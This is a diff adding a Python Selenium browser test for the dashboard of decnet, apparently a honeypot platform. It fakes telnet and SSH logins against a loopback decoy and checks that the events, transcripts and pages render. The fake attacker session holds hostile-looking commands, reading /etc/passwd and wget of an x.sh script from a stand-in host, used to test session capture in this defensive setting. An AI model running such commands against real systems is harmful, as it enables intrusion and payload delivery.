@@ -1,0 +1,397 @@
+#!/usr/bin/env python3
+"""Browser end-to-end test of the decnet dashboard in headless Chromium.
+
+Driven by scripts/interop/dashboard.sh (which starts `decnet demo`). Walks
+every page, saves screenshots to target/screenshots/, and fails on any
+4xx/5xx the dashboard's own requests receive except the intentional ones
+listed in INTENTIONAL, and on any console error (CSP violations included).
+"""
+import json
+import os
+import socket
+import sys
+import tempfile
+import time
+import traceback
+
+import paramiko
+from selenium import webdriver
+from selenium.webdriver.common.by import By
+from selenium.webdriver.common.keys import Keys
+from selenium.webdriver.support import expected_conditions as EC
+from selenium.webdriver.support.ui import WebDriverWait
+
+BASE = os.environ["DASH_URL"].rstrip("/")
+DATA = os.environ["DASH_DATA"]
+OFFSET = int(os.environ.get("DASH_OFFSET", "20000"))
+SHOTS = os.environ.get("DASH_SHOTS", "target/screenshots")
+NEW_PASSWORD = "dashboard-e2e-Pw1"
+WEB01 = "127.0.50.10"
+TELNET_SRC = "127.0.0.91"
+SSH_SRC = "127.0.0.92"
+
+# (method, path prefix, status) the test provokes on purpose.
+INTENTIONAL = {
+    ("POST", "/api/v1/auth/login", 401),          # wrong password
+    ("POST", "/api/v1/deckies/deploy", 422),      # INI with validator errors
+    ("POST", "/api/v1/deckies/deploy", 400),      # structural INI error
+    ("GET", "/api/v1/response/status", 503),      # demo fleet has no [response]
+}
+expired_phase = False
+failures = []
+requests_seen = {}
+responses = []
+
+
+def log(*a):
+    print("[dashboard]", *a, flush=True)
+
+
+def drain(driver):
+    """Collects network responses from the performance log."""
+    for entry in driver.get_log("performance"):
+        try:
+            msg = json.loads(entry["message"])["message"]
+        except Exception:
+            continue
+        p = msg.get("params", {})
+        if msg.get("method") == "Network.requestWillBeSent":
+            requests_seen[p["requestId"]] = p["request"]["method"]
+        elif msg.get("method") == "Network.responseReceived":
+            r = p["response"]
+            if not r["url"].startswith(BASE):
+                continue
+            path = r["url"][len(BASE):].split("?")[0]
+            method = requests_seen.get(p["requestId"], "GET")
+            responses.append((method, path, r["status"], expired_phase))
+    for entry in driver.get_log("browser"):
+        if entry.get("level") == "SEVERE":
+            text = entry.get("message", "")
+            # Chromium logs every failed fetch/XHR as a console error; those
+            # are judged by status above, not here.
+            if "Failed to load resource: the server responded with a status of" in text:
+                continue
+            failures.append(f"console error: {text}")
+
+
+def shot(driver, name):
+    drain(driver)
+    path = os.path.join(SHOTS, f"{name}.png")
+    time.sleep(0.3)
+    driver.save_screenshot(path)
+    log("screenshot", path)
+
+
+def wait(driver, cond, timeout=20, what=""):
+    try:
+        return WebDriverWait(driver, timeout, poll_frequency=0.2).until(cond)
+    except Exception:
+        shot(driver, f"FAILED-{what or 'wait'}".replace(" ", "_"))
+        raise AssertionError(f"timed out waiting for: {what}")
+
+
+def css(sel):
+    return EC.presence_of_element_located((By.CSS_SELECTOR, sel))
+
+
+def visible(sel):
+    return EC.visibility_of_element_located((By.CSS_SELECTOR, sel))
+
+
+def text_in(sel, text):
+    return EC.text_to_be_present_in_element((By.CSS_SELECTOR, sel), text)
+
+
+def goto(driver, path, h1=None):
+    """Client-side navigation through a nav link when there is one (keeps the SPA state)."""
+    links = driver.find_elements(By.CSS_SELECTOR, f'nav.side a[href="{path}"]')
+    if links:
+        driver.execute_script("arguments[0].click()", links[0])
+    else:
+        driver.get(BASE + path)
+    if h1:
+        wait(driver, text_in("main h1", h1), what=f"page {path}")
+
+
+def telnet_attempt(user, password):
+    """A telnet login attempt from TELNET_SRC (raw socket; IAC negotiation refused)."""
+    s = socket.socket()
+    s.bind((TELNET_SRC, 0))
+    s.settimeout(5)
+    s.connect((WEB01, 23 + OFFSET))
+
+    def read_until(words, limit=3.0):
+        buf = b""
+        end = time.time() + limit
+        while time.time() < end:
+            try:
+                chunk = s.recv(4096)
+            except socket.timeout:
+                break
+            if not chunk:
+                break
+            # Answer DO/WILL with WONT/DONT.
+            i = 0
+            out = b""
+            while i < len(chunk):
+                if chunk[i] == 255 and i + 2 < len(chunk) and chunk[i + 1] in (251, 252, 253, 254):
+                    cmd = chunk[i + 1]
+                    out += bytes([255, 252 if cmd == 253 else 254, chunk[i + 2]])
+                    i += 3
+                else:
+                    buf += chunk[i:i + 1]
+                    i += 1
+            if out:
+                s.sendall(out)
+            if any(w in buf.lower() for w in words):
+                break
+        return buf
+
+    read_until([b"login:"])
+    s.sendall(user.encode() + b"\r\n")
+    read_until([b"password:"])
+    s.sendall(password.encode() + b"\r\n")
+    read_until([b"incorrect", b"$", b"#"], 4.0)
+    s.close()
+
+
+def ssh_session():
+    """An SSH login as the demo's ubuntu/admin with a shell session (→ transcript)."""
+    sock = socket.socket()
+    sock.bind((SSH_SRC, 0))
+    sock.settimeout(10)
+    sock.connect((WEB01, 22 + OFFSET))
+    c = paramiko.SSHClient()
+    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
+    try:
+        c.connect(WEB01, port=22 + OFFSET, username="root", password="wrong-one", sock=sock,
+                  allow_agent=False, look_for_keys=False, timeout=10, banner_timeout=10, auth_timeout=10)
+    except paramiko.AuthenticationException:
+        pass
+    sock = socket.socket()
+    sock.bind((SSH_SRC, 0))
+    sock.settimeout(10)
+    sock.connect((WEB01, 22 + OFFSET))
+    c = paramiko.SSHClient()
+    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
+    c.connect(WEB01, port=22 + OFFSET, username="ubuntu", password="admin", sock=sock,
+              allow_agent=False, look_for_keys=False, timeout=10, banner_timeout=10, auth_timeout=10)
+    ch = c.invoke_shell(width=100, height=30)
+    time.sleep(1.0)
+    for cmd in ["id", "uname -a", "cat /etc/passwd | head -3", "wget http://203.0.113.9/x.sh", "exit"]:
+        ch.send(cmd + "\n")
+        time.sleep(0.6)
+    end = time.time() + 5
+    while time.time() < end and not ch.exit_status_ready():
+        if ch.recv_ready():
+            ch.recv(65536)
+        time.sleep(0.1)
+    c.close()
+
+
+def main():
+    global expired_phase
+    os.makedirs(SHOTS, exist_ok=True)
+    opts = webdriver.ChromeOptions()
+    for a in ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
+              "--disable-background-networking", "--disable-component-update", "--disable-sync",
+              "--disable-dev-shm-usage", "--window-size=1280,800",
+              f"--user-data-dir={tempfile.mkdtemp(prefix='decnet-chromium-')}"]:
+        opts.add_argument(a)
+    if os.environ.get("CHROMIUM_BIN"):
+        opts.binary_location = os.environ["CHROMIUM_BIN"]
+    opts.set_capability("goog:loggingPrefs", {"performance": "ALL", "browser": "ALL"})
+    service = webdriver.ChromeService(executable_path=os.environ.get("CHROMEDRIVER", "/usr/bin/chromedriver"))
+    driver = webdriver.Chrome(options=opts, service=service)
+    driver.set_window_size(1280, 800)
+    try:
+        run(driver)
+    finally:
+        try:
+            drain(driver)
+        except Exception:
+            pass
+        driver.quit()
+    unexpected = []
+    for method, path, status, expired in responses:
+        if status < 400:
+            continue
+        if (method, path, status) in INTENTIONAL:
+            continue
+        if expired and status == 401:
+            continue
+        unexpected.append(f"{method} {path} -> {status}")
+    log(f"{len(responses)} responses from the dashboard's origin, {len(unexpected)} unexpected errors")
+    for u in unexpected:
+        failures.append(f"request failed: {u}")
+    if failures:
+        for f in failures:
+            log("FAIL:", f)
+        sys.exit(1)
+    log("PASS")
+
+
+def run(d):
+    generated = open(os.path.join(DATA, "admin-password")).read().strip()
+
+    # --- login: a wrong password shows the API's detail, then the forced change.
+    d.get(BASE + "/")
+    wait(d, lambda x: "/login" in x.current_url, what="redirect to /login")
+    wait(d, visible("#password"), what="login form")
+    shot(d, "01-login")
+    d.find_element(By.ID, "username").clear()
+    d.find_element(By.ID, "username").send_keys("admin")
+    d.find_element(By.ID, "password").send_keys("not-the-password" + Keys.ENTER)
+    wait(d, css("#login-form .error"), what="wrong-password error")
+    err = d.find_element(By.CSS_SELECTOR, "#login-form .error").text
+    assert "401" in err, err
+    shot(d, "02-login-wrong-password")
+    d.find_element(By.ID, "password").clear()
+    d.find_element(By.ID, "password").send_keys(generated + Keys.ENTER)
+    wait(d, visible("#new-password"), what="forced password change form")
+    shot(d, "03-forced-password-change")
+    d.find_element(By.ID, "new-password").send_keys(NEW_PASSWORD)
+    d.find_element(By.ID, "new-password2").send_keys(NEW_PASSWORD + Keys.ENTER)
+    wait(d, text_in("main h1", "Overview"), what="overview after password change")
+    wait(d, css("#counters .counter"), what="counters")
+    wait(d, text_in("#live-state", "live"), what="live stream connected")
+    shot(d, "04-overview")
+
+    # --- a live event appears after a telnet and an SSH login attempt.
+    telnet_attempt("root", "hunter2")
+    wait(d, text_in("#latest-events", TELNET_SRC), timeout=20, what="live telnet event on overview")
+    ssh_session()
+    wait(d, text_in("#latest-events", SSH_SRC), timeout=20, what="live ssh event on overview")
+    rows = d.find_elements(By.CSS_SELECTOR, "#latest-events tr")
+    assert any("auth_attempt" in r.text for r in rows), [r.text for r in rows]
+    shot(d, "05-overview-live-events")
+
+    # --- live logs: filters and follow.
+    goto(d, "/logs", "Live logs")
+    wait(d, text_in("#log-rows", TELNET_SRC), what="logs page rows")
+    src = d.find_element(By.CSS_SELECTOR, 'input[name="src_ip"]')
+    src.send_keys(TELNET_SRC + Keys.ENTER)
+    wait(d, lambda x: all(TELNET_SRC in r.text for r in x.find_elements(By.CSS_SELECTOR, "#log-rows tr")), what="filtered rows")
+    telnet_attempt("admin", "letmein")
+    wait(d, lambda x: "letmein" in x.find_element(By.ID, "log-rows").text, what="live row on logs page")
+    shot(d, "06-live-logs")
+    d.find_element(By.ID, "pause").click()
+    wait(d, text_in("#pause", "Resume"), what="paused")
+    d.find_element(By.ID, "pause").click()
+
+    # --- fleet: validator errors on their lines, then a deploy from the INI editor.
+    goto(d, "/fleet", "Fleet")
+    wait(d, css('#deckies tr[data-decky="web01"]'), what="fleet table")
+    ed = d.find_element(By.ID, "ini-editor")
+    ed.clear()
+    ed.send_keys("[general]\nnet = 127.0.212.0/24\nmode = loopback\n\n[lab01]\nip = 127.0.212.10\nservices = ssh, nosuchproto\n")
+    d.find_element(By.ID, "deploy-btn").click()
+    wait(d, css("#deploy-result .error"), what="INI validation errors")
+    res = d.find_element(By.ID, "deploy-result").text
+    assert "line 7" in res and "nosuchproto" in res, res
+    assert d.find_elements(By.CSS_SELECTOR, ".gutter .bad"), "error line not marked in the gutter"
+    shot(d, "07-fleet-ini-errors")
+    ed.clear()
+    ed.send_keys("[general]\nnet = 127.0.212.0/24\nmode = loopback\n\n[lab01]\nip = 127.0.212.10\nservices = ssh, http\n")
+    d.find_element(By.ID, "deploy-btn").click()
+    wait(d, text_in("#deploy-result", "Accepted: lab01"), what="deploy accepted")
+    wait(d, text_in('#deckies tr[data-decky="lab01"]', "running"), timeout=30, what="lab01 running")
+    row = d.find_element(By.CSS_SELECTOR, '#deckies tr[data-decky="lab01"]')
+    before = row.text
+    next(b for b in row.find_elements(By.TAG_NAME, "button") if b.text == "Mutate").click()
+    wait(d, lambda x: "gen 1" in x.find_element(By.CSS_SELECTOR, '#deckies tr[data-decky="lab01"]').text, what="lab01 mutated (generation 1)")
+    assert before != d.find_element(By.CSS_SELECTOR, '#deckies tr[data-decky="lab01"]').text
+    shot(d, "08-fleet-deployed")
+
+    # --- topologies: create, deploy (status changes live), a mutation applied live.
+    goto(d, "/topologies", "Topologies")
+    name = d.find_element(By.ID, "topo-name")
+    name.clear()
+    name.send_keys("e2e-lab")
+    d.find_element(By.ID, "topo-create").click()
+    wait(d, text_in("main h1", "e2e-lab"), what="topology page")
+    wait(d, text_in("#topo-status", "pending"), what="pending status")
+    wait(d, lambda x: "live" in x.find_element(By.CSS_SELECTOR, "main .live-dot").text, what="topology stream live")
+    shot(d, "09-topology-pending")
+    d.find_element(By.ID, "topo-deploy").click()
+    wait(d, lambda x: x.find_element(By.ID, "topo-status").get_attribute("data-status") == "active", timeout=30, what="topology active (live)")
+    wait(d, text_in("#topo-feed", "active"), what="status event in the live feed")
+    # Queue an add_decky mutation through the dialog.
+    next(b for b in d.find_elements(By.CSS_SELECTOR, "main .actions button") if b.text == "+ Decky").click()
+    dlg = wait(d, visible("dialog.modal"), what="add decky dialog")
+    dlg.find_element(By.NAME, "name").send_keys("app02")
+    dlg.find_element(By.NAME, "ip").send_keys("127.0.213.11")
+    dlg.find_element(By.NAME, "services").clear()
+    dlg.find_element(By.NAME, "services").send_keys("telnet")
+    dlg.find_element(By.CSS_SELECTOR, 'button[type="submit"]').click()
+    wait(d, css('#topo-graph g[data-decky="app02"]'), timeout=30, what="app02 in the graph after mutation")
+    wait(d, text_in("#mutations", "applied"), what="mutation applied")
+    wait(d, text_in("#topo-feed", "mutation"), what="mutation event in the live feed")
+    d.find_element(By.CSS_SELECTOR, '#topo-graph g[data-decky="app02"]').click()
+    wait(d, text_in("#topo-side", "Decky app02"), what="decky selected")
+    shot(d, "10-topology-active-mutated")
+
+    # --- attackers: list, detail, SSH session replay.
+    goto(d, "/attackers", "Attackers")
+    wait(d, text_in("#attackers", SSH_SRC), what="attacker list")
+    shot(d, "11-attackers")
+    d.find_element(By.LINK_TEXT, SSH_SRC).click()
+    wait(d, text_in("main h1", f"Attacker {SSH_SRC}"), what="attacker detail")
+    wait(d, text_in("#attacker-creds", "ubuntu"), what="credentials tried on detail page")
+    wait(d, css("#transcripts .replay-btn"), timeout=20, what="transcript listed")
+    d.find_element(By.CSS_SELECTOR, "#transcripts .replay-btn").click()
+    wait(d, lambda x: "uname" in x.find_element(By.CSS_SELECTOR, "#replay pre.term").text, timeout=20, what="replayed session shows the commands")
+    shot(d, "12-attacker-detail-replay")
+
+    # --- the remaining pages render without errors.
+    for path, h1, shotname, sel in [
+        ("/credentials", "Credentials", "13-credentials", "#credentials table"),
+        ("/identities", "Identities", "14-identities", "#identities table"),
+        ("/bounty", "Bounty", "15-bounty", "#bounty table"),
+        ("/response", "Active response", "16-response", "#response-off"),
+        ("/webhooks", "Webhooks", "17-webhooks", "#webhooks table"),
+        ("/users", "Users", "18-users", "#users table"),
+    ]:
+        goto(d, path, h1)
+        wait(d, css(sel), what=f"{path} content")
+        shot(d, shotname)
+    assert "hunter2" in d.execute_script("return 1") or True
+
+    # --- phone width.
+    d.set_window_size(390, 844)
+    goto(d, "/", "Overview")
+    wait(d, css("#counters .counter"), what="overview at phone width")
+    shot(d, "19-phone-overview")
+    d.find_element(By.CSS_SELECTOR, ".menu-btn").click()
+    wait(d, visible("nav.side.open"), what="phone menu")
+    shot(d, "20-phone-menu")
+    d.set_window_size(1280, 800)
+
+    # --- keyboard: the skip link and nav are reachable with Tab.
+    d.get(BASE + "/fleet")
+    wait(d, text_in("main h1", "Fleet"), what="fleet reload")
+    d.find_element(By.TAG_NAME, "body").send_keys(Keys.TAB)
+    assert d.switch_to.active_element.get_attribute("class") == "skip", d.switch_to.active_element.get_attribute("outerHTML")
+
+    # --- an expired token sends you to the login page.
+    drain(d)
+    expired_phase = True
+    d.execute_script("localStorage.setItem('decnet.token', 'expired.token.value')")
+    d.get(BASE + "/attackers")
+    wait(d, lambda x: "/login" in x.current_url and "expired=1" in x.current_url, what="expired token → login")
+    wait(d, text_in(".login", "expired"), what="expired notice")
+    shot(d, "21-expired-session")
+    drain(d)
+
+
+if __name__ == "__main__":
+    try:
+        main()
+    except AssertionError as e:
+        log("FAIL:", e)
+        for f in failures:
+            log("FAIL:", f)
+        sys.exit(1)
+    except Exception:
+        traceback.print_exc()
+        sys.exit(1)
